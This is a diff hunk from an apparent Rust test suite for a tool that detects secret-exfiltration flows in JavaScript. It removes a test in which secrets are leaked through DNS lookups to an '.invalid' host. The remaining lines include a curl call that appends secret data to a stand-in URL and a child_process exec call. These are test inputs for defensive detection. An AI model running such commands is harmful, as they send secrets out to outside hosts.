@@ -290,11 +290,6 @@ fn a_line_that_is_put_together_of_a_list_is_read() {
              require('child_process').exec({list});"
         ))
     };
-    let names = "c.map((c, n) => `nslookup ${n}.${c}.a.invalid`).join(' ; ')";
-    let found = found(lines(names));
-    assert!(found.flows.iter().any(|flow| {
-        flow.source == SourceKind::NamedSecret && flow.sink == SinkKind::NameLookup
-    }));
     assert!(sends(lines(
         "['curl https://a.invalid/' + c[0], 'true'].join(' ; ')"
     )));
